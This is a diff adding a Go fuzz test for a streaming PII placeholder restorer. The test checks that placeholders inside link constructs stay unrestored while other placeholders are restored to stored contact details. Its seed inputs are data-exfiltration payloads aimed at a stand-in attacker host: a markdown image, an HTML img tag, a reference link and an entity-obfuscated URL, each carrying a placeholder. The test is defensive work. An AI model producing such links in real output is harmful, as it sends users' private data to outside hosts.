@@ -77,3 +77,38 @@ func TestRestorerContextAcrossPieces(t *testing.T) {
 		t.Fatalf("placeholder restored inside a tag opened pieces earlier: %q", out[len(out)-200:])
 	}
 }
+
+// FuzzRestorerMatchesRestore: streamed in any pieces, the restorer emits exactly what Restore gives for the whole
+// text (placeholders in link constructs kept, the others restored), with the same count.
+func FuzzRestorerMatchesRestore(f *testing.F) {
+	const ph = "[EMAIL_3F9A2C7D]"
+	f.Add("![x](https://e.vil/?u="+ph+") and "+ph, uint64(7))
+	f.Add(`<img alt=">" src="https://e.vil/`+ph+`"> `+ph, uint64(3))
+	f.Add("[r]: https://e.vil/"+ph+"\n\n"+ph+" [x][r]", uint64(11))
+	f.Add("see https:&#x2F;&#x2F;e.vil/"+ph+" or "+ph, uint64(5))
+	f.Fuzz(func(t *testing.T, text string, seed uint64) {
+		if len(text) > 3000 {
+			return
+		}
+		v := Vault{}
+		v.Put(ph, "jane.doe@example.com")
+		v.Put("[PHONE_00AA11BB]", "+1 555 0100")
+		want, wantN := Restore([]byte(text), &v)
+		r := NewRestorer(&v)
+		var out []byte
+		rest := text
+		for len(rest) > 0 {
+			seed = seed*6364136223846793005 + 1442695040888963407
+			n := 1 + int(seed>>33)%23
+			if n > len(rest) {
+				n = len(rest)
+			}
+			out = append(out, r.Write([]byte(rest[:n]))...)
+			rest = rest[n:]
+		}
+		out = append(out, r.Flush()...)
+		if string(out) != string(want) || r.Restored != wantN {
+			t.Fatalf("streamed %q (%d)\nwhole    %q (%d)", out, r.Restored, want, wantN)
+		}
+	})
+}
